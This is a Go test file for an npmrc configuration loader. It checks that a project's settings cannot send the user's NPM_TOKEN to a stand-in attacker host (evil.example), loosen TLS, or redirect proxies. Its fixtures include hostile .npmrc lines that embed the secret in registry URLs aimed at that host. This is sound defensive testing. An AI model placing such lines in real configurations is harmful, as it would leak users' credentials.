package npmrc

import (
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/quick"
)

func load(t *testing.T, s scene) *Config {
	t.Helper()
	_, o := s.build(t)
	c, err := Load(o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// secrets says what a test's project may not get out of the environment.
var secrets = []string{"NPM_TOKEN=s3cret", "REG=https://evil.example/"}

func TestProjectCannotSendSecretsElsewhere(t *testing.T) {
	for name, test := range map[string]struct {
		user, project string
		trusted       []string
		url           string // asked for
		want          string // Authorization
		registry      string // the default registry, where it matters
		note          bool
	}{
		"a token for npm's registry": {
			project: "//registry.npmjs.org/:_authToken=${NPM_TOKEN}",
			url:     "https://registry.npmjs.org/x", want: "Bearer s3cret",
		},
		"a token for a host of the project's": {
			project: "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}",
			url:     "https://evil.example/x", note: true, registry: "https://evil.example/",
		},
		"a token for the user's own registry": {
			user: "@acme:registry=https://npm.acme.example/", project: "//npm.acme.example/:_authToken=${NPM_TOKEN}",
			url: "https://npm.acme.example/x", want: "Bearer s3cret",
		},
		"a token for a host that the user has a token for": {
			user: "//npm.acme.example/:_authToken=old", project: "//npm.acme.example/:_authToken=${NPM_TOKEN}",
			url: "https://npm.acme.example/x", want: "Bearer s3cret",
		},
		"a token for a host that the policy lists": {
			project: "//npm.acme.example/:_authToken=${NPM_TOKEN}", trusted: []string{"npm.acme.example"},
			url: "https://npm.acme.example/x", want: "Bearer s3cret",
		},
		"another port is another place": {
			project: "//registry.npmjs.org:8443/:_authToken=${NPM_TOKEN}",
			url:     "https://registry.npmjs.org:8443/x", note: true,
		},
		"a token of the project's own": {
			project: "//evil.example/:_authToken=theirs", url: "https://evil.example/x", want: "Bearer theirs",
		},
		"a secret in the path": {
			project: "registry=https://evil.example/${NPM_TOKEN}/", url: "https://evil.example/x",
			registry: "https://evil.example/${NPM_TOKEN}/", note: true,
		},
		"a secret in the host": {
			project: "registry=https://${NPM_TOKEN}.evil.example/", url: "https://x.example/",
			registry: "https://${NPM_TOKEN}.evil.example/", note: true,
		},
		"a secret as the userinfo": {
			project: "registry=https://u:${NPM_TOKEN}@evil.example/", url: "https://evil.example/",
			registry: "https://u:${NPM_TOKEN}@evil.example/", note: true,
		},
		"a known host before an @": {
			project: "registry=https://registry.npmjs.org:${NPM_TOKEN}@evil.example/", url: "https://evil.example/",
			registry: "https://registry.npmjs.org:${NPM_TOKEN}@evil.example/", note: true,
		},
		"the whole address from the environment": {
			project: "registry=${REG}", url: "https://evil.example/", registry: "${REG}/", note: true,
		},
		"a known host in the clear": {
			project: "registry=http://registry.npmjs.org/${NPM_TOKEN}/", url: "http://registry.npmjs.org/",
			registry: "http://registry.npmjs.org/${NPM_TOKEN}/", note: true,
		},
		"the user's token in the clear": {
			user: "//registry.npmjs.org/:_authToken=mine", project: "registry=http://registry.npmjs.org/",
			url: "http://registry.npmjs.org/x", registry: "http://registry.npmjs.org/",
		},
		"the user's token in the clear, as the user wants it": {
			user: "//npm.acme.example/:_authToken=mine\nregistry=http://npm.acme.example/",
			url:  "http://npm.acme.example/x", want: "Bearer mine",
		},
		"a token to this machine": {
			user: "//localhost:4873/:_authToken=mine", project: "registry=http://localhost:4873/",
			url: "http://localhost:4873/x", want: "Bearer mine",
		},
		"a key with a variable": {
			project: "//${NPM_TOKEN}.evil.example/:_authToken=x", url: "https://s3cret.evil.example/", note: true,
		},
		"a user configuration of the project's": {
			project: "userconfig=./theirs\nregistry=https://evil.example/", url: "https://evil.example/", note: true,
		},
		"a global configuration of the project's": {
			project: "globalconfig=./theirs", url: "https://evil.example/", note: true,
		},
		"a prefix of the project's": {
			project: "prefix=./pre", url: "https://evil.example/", note: true,
		},
		"beside the registry's path": {
			user: "registry=https://npm.acme.example/api/npm/\n//npm.acme.example/api/npm/:_authToken=mine",
			url:  "https://npm.acme.example/files/x.tgz", want: "Bearer mine",
		},
		"another host": {
			user: "registry=https://npm.acme.example/\n//npm.acme.example/:_authToken=mine", url: "https://other.example/x.tgz",
		},
		"a host that ends alike": {
			user: "//npm.acme.example/:_authToken=mine", url: "https://evil-npm.acme.example/x.tgz",
		},
		"a name and password": {
			user: "//npm.acme.example/:username=me\n//npm.acme.example/:_password=c2VjcmV0", url: "https://npm.acme.example/a/b",
			want: "Basic bWU6c2VjcmV0",
		},
		"a ready value":   {user: "//npm.acme.example/a/:_auth=Zm9v", url: "https://npm.acme.example/a/b", want: "Basic Zm9v"},
		"above the path":  {user: "//npm.acme.example/a/:_auth=Zm9v", url: "https://npm.acme.example/b"},
		"out of the path": {user: "//npm.acme.example/a/:_auth=Zm9v", url: "https://npm.acme.example/a/../b"},
	} {
		t.Run(name, func(t *testing.T) {
			evil := "//evil.example/:_authToken=${NPM_TOKEN}\n"
			s := scene{env: secrets, files: map[string]string{
				"home/.npmrc": test.user, "project/.npmrc": test.project, "project/package.json": "{}",
				"project/theirs": evil, "project/pre/etc/npmrc": evil,
			}}
			_, o := s.build(t)
			o.Trusted = test.trusted
			c, err := Load(o)
			if err != nil {
				t.Fatal(err)
			}
			ro := c.RegistryOptions()
			if got := ro.Authorization(test.url); got != test.want {
				t.Errorf("%s gets %q, want %q", test.url, got, test.want)
			}
			if test.registry != "" && ro.Default != test.registry {
				t.Errorf("default registry %q, want %q", ro.Default, test.registry)
			}
			if test.note != (len(c.Notes) > 0) {
				t.Errorf("notes: %q", c.Notes)
			}
			if all := strings.Join(c.Notes, "\n"); strings.Contains(all, "s3cret") {
				t.Errorf("a note tells a secret: %s", all)
			}
		})
	}
}

func TestProjectCannotLoosen(t *testing.T) {
	c := load(t, scene{files: map[string]string{
		"project/package.json": "{}", "project/ca.pem": "x",
		"project/.npmrc": "strict-ssl=false\ncafile=ca.pem\nca=x\nproxy=http://evil.example:1\nhttps-proxy=http://evil.example:1\nnoproxy=registry.npmjs.org\ncert=x\nkey=y\n//registry.npmjs.org/:certfile=x\n//registry.npmjs.org/:keyfile=y",
	}, env: []string{"HTTPS_PROXY=http://proxy.example:3128"}})
	o, err := c.FetchOptions()
	if err != nil {
		t.Fatal(err)
	}
	if o.InsecureTLS || o.CA != nil || o.Cert != nil || o.Key != nil || o.HostCerts != nil {
		t.Errorf("the project's settings are followed: %+v", o)
	}
	u, _ := url.Parse("https://registry.npmjs.org/x")
	if p, err := o.Proxy(u); err != nil || p == nil || p.Host != "proxy.example:3128" {
		t.Errorf("proxy %v, %v", p, err)
	}
	if len(c.Notes) != 10 {
		t.Errorf("%d notes: %q", len(c.Notes), c.Notes)
	}
}

func TestNetworkSettings(t *testing.T) {
	c := load(t, scene{files: map[string]string{
		"home/.npmrc": "strict-ssl=false\ncafile=ROOT/ca.pem\nfetch-retries=0\nfetch-timeout=1500\nmaxsockets=3\nnoproxy=.int.example,x.example", "ca.pem": "pem",
		"project/.npmrc": "strict-ssl=true", "project/package.json": "{}",
	}, env: []string{"http_proxy=http://u:pw@p.example:1"}})
	o, err := c.FetchOptions()
	if err != nil {
		t.Fatal(err)
	}
	if o.InsecureTLS {
		t.Error("the project may tighten")
	}
	if string(o.CA) != "pem" || o.Retries != -1 || o.Timeout.Milliseconds() != 1500 || o.PerHost != 3 {
		t.Errorf("%+v", o)
	}
	for address, want := range map[string]string{
		"http://a.example/": "p.example:1", "https://a.example/": "", "http://x.example/": "", "http://a.int.example/": "", "http://ax.example/": "p.example:1",
	} {
		u, _ := url.Parse(address)
		p, err := o.Proxy(u)
		if err != nil || (p == nil) != (want == "") || p != nil && p.Host != want {
			t.Errorf("%s goes through %v, %v", address, p, err)
		}
	}
	if err := os.Remove(c.Files[User]); err != nil {
		t.Fatal(err)
	}
	off := load(t, scene{cli: map[string][]string{"offline": {"true"}, "prefer-offline": {"true"}}})
	if o, _ := off.FetchOptions(); !o.Offline || off.RegistryOptions().Fresh == 0 {
		t.Error("not offline")
	}
	theirs := load(t, scene{files: map[string]string{"project/.npmrc": "offline=true\nprefer-offline=true", "project/package.json": "{}"}})
	if o, _ := theirs.FetchOptions(); o.Offline || theirs.RegistryOptions().Fresh != 0 {
		t.Error("offline because the project says so")
	}
	bad := load(t, scene{files: map[string]string{"home/.npmrc": "cafile=/nowhere/ca.pem"}})
	if _, err := bad.FetchOptions(); err == nil {
		t.Error("a missing cafile is no matter")
	}
	proxy := load(t, scene{env: []string{"npm_config_https_proxy=ftp://u:hidden@p.example/"}})
	o, _ = proxy.FetchOptions()
	u, _ := url.Parse("https://a.example/")
	if _, err := o.Proxy(u); err == nil || strings.Contains(err.Error(), "hidden") {
		t.Errorf("bad proxy: %v", err)
	}
}

func TestRegistries(t *testing.T) {
	c := load(t, scene{files: map[string]string{
		"home/.npmrc":    "@mine:registry=https://npm.acme.example/api",
		"project/.npmrc": "registry=https://other.example\n@p:registry=https://npm.acme.example/p/", "project/package.json": "{}",
	}, cli: map[string][]string{"@cli:registry": {"https://cli.example"}}})
	want := map[string]Registry{
		"":      {URL: "https://other.example/", ProjectOnly: true, Origin: Origin{Layer: Project, File: filepath.Join(c.Root, ".npmrc"), FromProject: true}},
		"@mine": {Scope: "@mine", URL: "https://npm.acme.example/api/", Origin: Origin{Layer: User, File: c.Files[User]}},
		"@p":    {Scope: "@p", URL: "https://npm.acme.example/p/", Origin: Origin{Layer: Project, File: filepath.Join(c.Root, ".npmrc"), FromProject: true}},
		"@cli":  {Scope: "@cli", URL: "https://cli.example/", Origin: Origin{Layer: CLI}},
	}
	all := c.Registries()
	if len(all) != len(want) {
		t.Errorf("%+v", all)
	}
	for _, r := range all {
		if r != want[r.Scope] {
			t.Errorf("%+v, want %+v", r, want[r.Scope])
		}
	}
}

func TestLoadNeedsAFolder(t *testing.T) {
	if _, err := Load(Options{Cwd: "relative"}); err == nil {
		t.Error("no error")
	}
}

func TestExpandIsStable(t *testing.T) {
	// What has no ${ is never changed.
	same := func(s string) bool {
		s = strings.ReplaceAll(s, "${", "")
		return expand(s, map[string]string{"A": "b"}) == s
	}
	if err := quick.Check(same, nil); err != nil {
		t.Error(err)
	}
}

func FuzzINI(f *testing.F) {
	for _, s := range scenes {
		f.Add(s.files["home/.npmrc"])
	}
	f.Add("'\n\"\n[]=\n[a]\n=[]\n\\")
	f.Fuzz(func(t *testing.T, text string) {
		all, _ := parseINI(text)
		r := reader{types: types(), env: map[string]string{"A": "b"}, cwd: "/", home: "/h"}
		seen := map[string]bool{}
		for _, p := range all {
			if seen[p.key] {
				t.Errorf("%q stands twice", p.key)
			}
			seen[p.key] = true
			v, _ := r.field(p.value, p.key)
			r.clean(v, p.key)
		}
	})
}
